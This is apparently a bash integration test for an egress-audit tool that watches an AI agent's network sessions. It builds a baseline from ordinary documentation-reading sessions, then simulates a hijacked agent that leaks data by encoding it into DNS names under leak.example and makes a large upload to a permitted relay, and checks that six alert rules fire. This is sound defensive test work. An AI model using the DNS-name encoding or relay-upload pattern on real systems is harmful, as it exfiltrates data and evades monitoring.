#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# A scripted day, with the time between things left out: sessions of an agent that reads
# documentation, from which the baseline is learned; another such session, which raises no alert;
# and one that was taken over, under the same policy: names that nobody has heard of, data in names,
# a large upload to a relay that the policy permits.
#
#	EXAMPLES=contrib/examples tests/net/test-day.sh
#
# keeps the records of the last two there; make examples makes reports of them.

# shellcheck disable=SC2119,SC2317 # functions are called by name
# shellcheck source=lab.sh
. "$(dirname "$0")/lab.sh"
lab_needs_programs
lab_needs python3 jq conntrack
audit=$(program src/egress-audit)
lab_needs "$audit" "$ctl"

RELAY=198.18.30.1
UPLOAD_PORT=9000

# --- The world ---

# names PREFIX NETWORK COUNT
names() {
	local i

	for ((i = 1; i <= $3; i++)); do
		echo "$1$i A $2.$i"
	done
}

mkdir -p upstream
{
	zone_head 300
	names manual 198.18.10 60
	names find 198.18.11 6
	names code 198.18.12 10
	names cdn 198.18.13 10
	names site 198.18.20 60
	echo "relay A $RELAY"
} >upstream/day.example
lab_start

# Takes what is sent, and says that it has.
cat >relay.py <<-END
	import socket
	server = socket.create_server(("$RELAY", $UPLOAD_PORT))
	print("ready", flush=True)
	while True:
	    client, _ = server.accept()
	    while client.recv(1 << 16):
	        pass
	    client.close()
END
nsenter --net=/run/netns/world python3 relay.py >relay.out 2>relay.log &
must until_true 10 grep -q ready relay.out

# --- The agent ---

# agent.py: of each name on standard input the page, over HTTP; "upload NAME MIB" sends as much,
# "ask NAME" only asks.
cat >agent.py <<-'END'
	import socket, sys
	def find(name):
	    try:
	        return socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
	    except socket.gaierror:
	        return None
	def fetch(name):
	    with socket.create_connection((find(name), 80), 10) as page:
	        page.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % name.encode())
	        while page.recv(65536):
	            pass
	def upload(name, mib):
	    with socket.create_connection((find(name), int(sys.argv[1])), 10) as relay:
	        for _ in range(mib):
	            relay.sendall(bytes(1 << 20))
	        relay.shutdown(socket.SHUT_WR)
	        relay.recv(1)
	for line in sys.stdin:
	    word = line.split()
	    if word[0] == "ask":
	        find(word[1])
	    elif word[0] == "upload":
	        upload(word[1], int(word[2]))
	    else:
	        fetch(word[0])
END

agent() {
	in_client timeout 120 python3 "$LAB/agent.py" $UPLOAD_PORT 2>>agent.log
}

# visits PREFIX FIRST LAST
visits() {
	local i

	for ((i = $2; i <= $3; i++)); do
		echo "$1$i.day.example"
	done
}

# reading TURN: what an agent that reads documentation asks for; each turn something else.
reading() {
	visits manual $((1 + $1)) $((27 + $1 + $1 % 3))
	visits find 1 $((2 + $1 % 2))
	visits code 1 $((4 + $1 % 3))
	visits cdn 1 $((4 + $1 % 2))
	visits site 1 $((1 + $1 % 2))
}

# leaking: it begins as usual.
leaking() {
	local i

	visits manual 1 5
	visits find 1 2
	visits site 1 50
	for ((i = 0; i < 40; i++)); do
		printf 'ask %s.leak.example\n' "$(printf 'line %d of what was not to leave' $i |
			sha256sum | cut -c 1-52)"
	done
	echo "upload relay.day.example 24"
}

# --- Sessions ---

hosts() {
	visits "$1" 1 "$2" | sed 's/.*/"&"/' | paste -sd,
}

mkdir state
lab_policy day <<-END
	types = ["A", "AAAA"]
	[[allow]]
	host = [$(hosts manual 60)]
	ports = ["tcp/80"]
	category = "documentation"
	[[allow]]
	host = [$(hosts find 6)]
	ports = ["tcp/80"]
	category = "search"
	[[allow]]
	host = [$(hosts code 10)]
	ports = ["tcp/80"]
	category = "source hosting"
	[[allow]]
	host = [$(hosts cdn 10)]
	ports = ["tcp/80"]
	category = "content delivery"
	[[allow]]
	host = [$(hosts site 60)]
	ports = ["tcp/80"]
	[[allow]]
	host = "relay.day.example"
	ports = ["tcp/$UPLOAD_PORT"]
	category = "file sharing"
	reason = "where reports go"
	[budget]
	destinations = 55
	unknown_share = 0.3
END

# The kernel tells of a flow when it forgets it: two minutes after its end, if it isn't told otherwise.
must in_client sysctl -qw net.netfilter.nf_conntrack_tcp_timeout_time_wait=1 \
	net.netfilter.nf_conntrack_tcp_timeout_close=1

exec {events_fd}>>events
must lab_load day
must lab_resolver day --state "$LAB/state" --events-fd "$events_fd"
exec {events_fd}>&-

# some FILE CONDITION: whether it has such a record.
some() {
	[ -n "$(jq -c "select($2)" "$1")" ]
}

# begun: the number of the session that began last.
begun() {
	jq -r 'select(.kind == "session" and (.phase == "start" or .phase == "new")) | .session' \
		events | tail -n 1
}

# next NAME: the session is over, and its records are in events-NAME; another one begins.
next() {
	local session

	session=$(begun)
	must "$ctl" flush
	must "$ctl" session new
	must until_true 20 over "$session"
	grep -F "\"session\":\"$session\"" events >"events-$1"
}

# settled FLOWS: whether as many are recorded of the session that is running.
settled() {
	in_client conntrack -L >/dev/null 2>&1
	[ "$(jq -c "select(.kind == \"flow\" and .session == \"$(begun)\")" events | wc -l)" -ge "$1" ]
}

over() {
	[ "$(begun)" != "$1" ] &&
		some events ".kind == \"session\" and .phase == \"end\" and .session == \"$1\""
}

# told RULE CONDITION: an alert of the session that is running.
told() {
	some events ".kind == \"alert\" and .session == \"$(begun)\" and .rule == \"$1\" and ($2)"
}

# The rules that there were alerts of: alerts NAME
alerts() {
	jq -r 'select(.kind == "alert") | .rule' "events-$1" | sort -u | paste -sd' '
}

# ended NAME CONDITION: what the session's last record says.
ended() {
	some "events-$1" ".kind == \"session\" and .phase == \"end\" and ($2)"
}

for turn in 1 2 3 4 5 6; do
	reading $turn | sed 's/^/ask /' | agent
	next "earlier-$turn"
	is "session $turn raises no alert" "$(alerts "earlier-$turn")" ""
	check "and is recorded" ended "earlier-$turn" ".destinations >= 37 and .alerts == 0"
	is "and learned from" "$(cat state/*.baseline.jsonl | wc -l)" "$turn"
done

# --- The day ---

reading 7 | agent
check "all flows are recorded" until_true 60 settled "$(reading 7 | wc -l)"
next usual
is "a usual session raises no alert" "$(alerts usual)" ""
check "its baseline is ready" ended usual \
	'.baseline == {"sessions": 6, "state": "ready"} and .alerts == 0 and .refused == 0'

leaking | agent
check "other kinds of destinations" until_true 10 told categories \
	'.p < 0.001 and (.evidence | any(test("^documentation [67][0-9] % -> "))) and
	(.evidence | any(test("^unknown [0-9] % -> [5-9][0-9] %")))'
check "data in names" until_true 10 told encoded-names \
	'.name == "leak.example" and .value >= 8'
# Or as much of it as had been sent when it was looked at.
check "one large upload" until_true 40 told upload \
	'.name == "relay.day.example" and .value >= 16 * 1024 * 1024 and .value < 26000000'
check "which gave nothing for it" until_true 10 told upload-ratio \
	'.name == "relay.day.example" and .value > 1000'
check "more destinations than the budget has" until_true 10 told budget-destinations \
	'.threshold == 55'
check "more of them unknown" until_true 10 told budget-unknown-share '.threshold == 0.3'
check "all flows are recorded" until_true 60 settled 58
next leak
check "the session had alerts" ended leak '.alerts >= 6 and .bytes_out > 24000000'
is "that are no others" "$(alerts leak)" \
	"budget-destinations budget-unknown-share categories encoded-names upload upload-ratio"
is "nothing is learned from it" \
	"$(cat state/*.baseline.jsonl | jq -c 'select(.alerts == 0)' | wc -l)" 7

not() {
	! "$@"
}

# --- Reports ---

for name in usual leak; do
	check "a report as text ($name)" "$audit" report --text -o "$name.txt" "events-$name"
	check "and as HTML" "$audit" report --html -o "$name.html" "events-$name"
done
for rule in categories encoded-names upload budget-unknown-share; do
	check "the text tells of $rule" grep -q "$rule" leak.txt
	check "and the HTML" grep -q "$rule" leak.html
	check "which the usual one doesn't" not grep -q "${rule}[^-a-z]" usual.txt
done
if [ -n "${EXAMPLES:-}" ]; then
	cp events-usual "$EXAMPLES/day-usual.jsonl"
	cp events-leak "$EXAMPLES/day-leak.jsonl"
fi
lab_done
